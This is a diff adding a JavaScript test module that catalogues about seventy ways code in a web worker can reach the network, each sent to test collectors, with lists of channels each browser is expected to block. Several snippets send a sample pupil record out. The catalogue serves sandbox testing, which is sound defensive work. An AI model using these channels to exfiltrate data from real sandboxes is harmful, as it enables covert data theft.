@@ -1,0 +1,91 @@
+// Every way out that code in a worker could try. Each is run with three addresses: a name, the bare number of the
+// computer, and a name over TLS; see hostile.mjs.
+//
+// In the code: `url(scheme)` is an address of this way at the collectors (scheme http, ws or quic; TLS makes it https or
+// wss), `host` its name alone, `nest(code, options)` a worker inside this worker. A way may throw, now or later.
+export const WAYS = {
+  'fetch': `await fetch(url())`,
+  'fetch-no-cors': `await fetch(url(), { mode: 'no-cors' })`,
+  'fetch-post': `await fetch(url(), { method: 'POST', mode: 'no-cors', body: 'leerling 1001' })`,
+  'fetch-stream': `await fetch(url(), { method: 'POST', duplex: 'half', body: new Blob(['leerling 1001']).stream() })`,
+  'fetch-keepalive': `await fetch(url(), { mode: 'no-cors', keepalive: true })`,
+  'fetch-request': `await fetch(new Request(url(), { mode: 'no-cors' }))`,
+  'fetch-reload': `await fetch(url(), { mode: 'no-cors', priority: 'high', cache: 'reload' })`,
+  'fetch-referrer': `await fetch(url(), { mode: 'no-cors', referrer: '', referrerPolicy: 'unsafe-url' })`,
+  'fetch-preflight': `await fetch(url(), { headers: { 'X-Leerling': '1001' } })`,
+  'fetch-integrity': `await fetch(url(), { integrity: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' })`,
+  'fetch-private-token': `await fetch(url(), { privateToken: { version: 1, operation: 'token-request' } })`,
+  'fetch-attribution': `await fetch(url(), { mode: 'no-cors', attributionReporting: { eventSourceEligible: true, triggerEligible: true } })`,
+  'fetch-topics': `await fetch(url(), { mode: 'no-cors', browsingTopics: true, sharedStorageWritable: true })`,
+  'fetch-address-space': `await fetch(url(), { mode: 'no-cors', targetAddressSpace: 'local' })`,
+  'fetch-later': `fetchLater(url(), { activateAfter: 0 })`,
+  'compile-streaming': `await WebAssembly.compileStreaming(fetch(url(), { mode: 'no-cors' }))`,
+  'instantiate-streaming': `await WebAssembly.instantiateStreaming(fetch(url(), { mode: 'no-cors' }))`,
+  'xhr': `const x = new XMLHttpRequest(); x.open('GET', url()); x.send()`,
+  'xhr-post': `const x = new XMLHttpRequest(); x.open('POST', url()); x.send('leerling 1001')`,
+  'xhr-upload': `const x = new XMLHttpRequest(); x.upload.onprogress = () => {}; x.open('PUT', url()); x.send('leerling 1001')`,
+  'xhr-sync': `const x = new XMLHttpRequest(); x.open('GET', url(), false); x.send()`,
+  'xhr-credentials': `const x = new XMLHttpRequest(); x.open('GET', url(), true, 'leerling', '1001'); x.withCredentials = true; x.send()`,
+  'websocket': `new WebSocket(url('ws'))`,
+  'websocket-protocol': `new WebSocket(url('ws'), 'leerling1001')`,
+  'websocket-stream': `await new WebSocketStream(url('ws')).opened`,
+  'eventsource': `new EventSource(url())`,
+  'eventsource-credentials': `new EventSource(url(), { withCredentials: true })`,
+  'web-transport': `await new WebTransport(url('quic')).ready`,
+  'web-transport-hash': `await new WebTransport(url('quic'), { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready`,
+  'import-scripts': `importScripts(url())`,
+  'import-scripts-two': `importScripts('data:text/javascript,1', url())`,
+  'dynamic-import': `await import(url())`,
+  'dynamic-import-json': `await import(url(), { with: { type: 'json' } })`,
+  'eval-fetch': `eval("fetch('" + url() + "', { mode: 'no-cors' })")`,
+  'function-fetch': `new Function('u', "fetch(u, { mode: 'no-cors' })")(url())`,
+  'timer-text': `setTimeout("fetch('" + url() + "', { mode: 'no-cors' })", 0)`,
+  'shared-worker': `new SharedWorker(url())`,
+  'font': `await new FontFace('f', 'url(' + url() + ')').load()`,
+  'canvas-font': `const f = new FontFace('g', 'url(' + url() + ')'); self.fonts.add(f);
+      new OffscreenCanvas(9, 9).getContext('2d').font = '9px g'; await self.fonts.load('9px g')`,
+  'canvas-filter': `const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + url() + '#a)'; c.fillRect(0, 0, 9, 9)`,
+  'cache-add': `await (await caches.open('a')).add(url())`,
+  'cache-add-all': `await (await caches.open('a')).addAll([new Request(url(), { mode: 'no-cors' })])`,
+  'bucket-cache': `await (await (await navigator.storageBuckets.open('a')).caches.open('a')).add(url())`,
+  'beacon': `navigator.sendBeacon(url(), 'leerling 1001')`,
+  'service-worker': `await navigator.serviceWorker.register(url())`,
+  'location': `self.location = url(); self.location.href = url()`,
+  'open-window': `self.open(url()); await clients.openWindow(url())`,
+  'peer-connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: url('stun') }] }); p.createDataChannel('a');
+      await p.setLocalDescription(await p.createOffer())`,
+  'tcp-socket': `await new TCPSocket(host, Number(new URL(url()).port)).opened`,
+  'udp-socket': `await new UDPSocket({ remoteAddress: host, remotePort: 53 }).opened`,
+  'notification-icon': `new Notification('a', { icon: url() })`,
+  'background-fetch': `await registration.backgroundFetch.fetch('a', [url()])`,
+  'push': `await registration.pushManager.subscribe({ userVisibleOnly: true })`,
+  'credential': `await navigator.credentials.get({ identity: { providers: [{ configURL: url(), clientId: '1001' }] } })`,
+  // Last: a Firefox that is asked for many workers sometimes starts no more of them, and stops the one that asks.
+  'nested-worker': `new Worker(url())`,
+  'nested-module-worker': `new Worker(url(), { type: 'module' })`,
+  'nested-blob-fetch': `nest("fetch('" + url() + "', { mode: 'no-cors' })")`,
+  'nested-blob-import-scripts': `nest("importScripts('" + url() + "')")`,
+  'nested-blob-import': `nest("import('" + url() + "')")`,
+  'nested-blob-websocket': `nest("new WebSocket('" + url('ws') + "')")`,
+  'nested-blob-eventsource': `nest("new EventSource('" + url() + "')")`,
+  'nested-blob-xhr': `nest("var x = new XMLHttpRequest(); x.open('GET', '" + url() + "'); x.send()")`,
+  'nested-blob-font': `nest("new FontFace('n', 'url(" + url() + ")').load()")`,
+  'nested-blob-transport': `nest("new WebTransport('" + url('quic') + "')")`,
+  'nested-blob-module': `nest("import '" + url() + "'", { type: 'module' })`,
+  'nested-module-export': `nest("export * from '" + url() + "'", { type: 'module' })`,
+  'nested-twice': `nest("new Worker(URL.createObjectURL(new Blob([\\"fetch('" + url() + "', { mode: 'no-cors' })\\"])))")`,
+  'nested-data': `new Worker('data:text/javascript,fetch("' + url() + '", { mode: "no-cors" })')`,
+  'source-map': `nest("throw new Error('x')\\n//# sourceMappingURL=" + url())`,
+};
+
+// Ways that do not arrive from a worker on http:// where nothing holds it back either: what they need does not exist
+// there. A test fails when one of these arrives after all, or another one does not.
+const NOWHERE = [
+  'fetch-later', 'shared-worker', 'canvas-filter', 'beacon', 'service-worker', 'location', 'open-window',
+  'peer-connection', 'tcp-socket', 'udp-socket', 'notification-icon', 'background-fetch', 'push', 'credential',
+  'nested-worker', 'nested-module-worker', 'source-map',
+];
+export const SILENT_WAYS = {
+  chromium: [...NOWHERE, 'fetch-private-token'],
+  firefox: [...NOWHERE, 'websocket-stream', 'bucket-cache'],
+};
